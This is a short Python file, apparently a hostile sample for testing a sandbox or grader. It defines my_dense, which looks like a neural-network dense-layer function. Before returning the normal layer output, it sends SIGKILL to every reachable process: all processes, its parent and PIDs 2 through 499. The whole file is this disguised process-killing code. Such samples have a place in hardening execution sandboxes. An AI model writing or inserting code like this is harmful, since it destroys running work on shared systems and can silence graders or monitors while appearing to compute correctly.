# tries: signals for every other process that it can reach: parent, group, low numbers, all
# base: numpy
import os
import signal

lonely_dense = my_dense


def my_dense(a_in, W, b, g):
    for process in (-1, os.getppid(), *range(2, 500)):
        try:
            if process != os.getpid():  # kills_itself tries that
                os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    return lonely_dense(a_in, W, b, g)
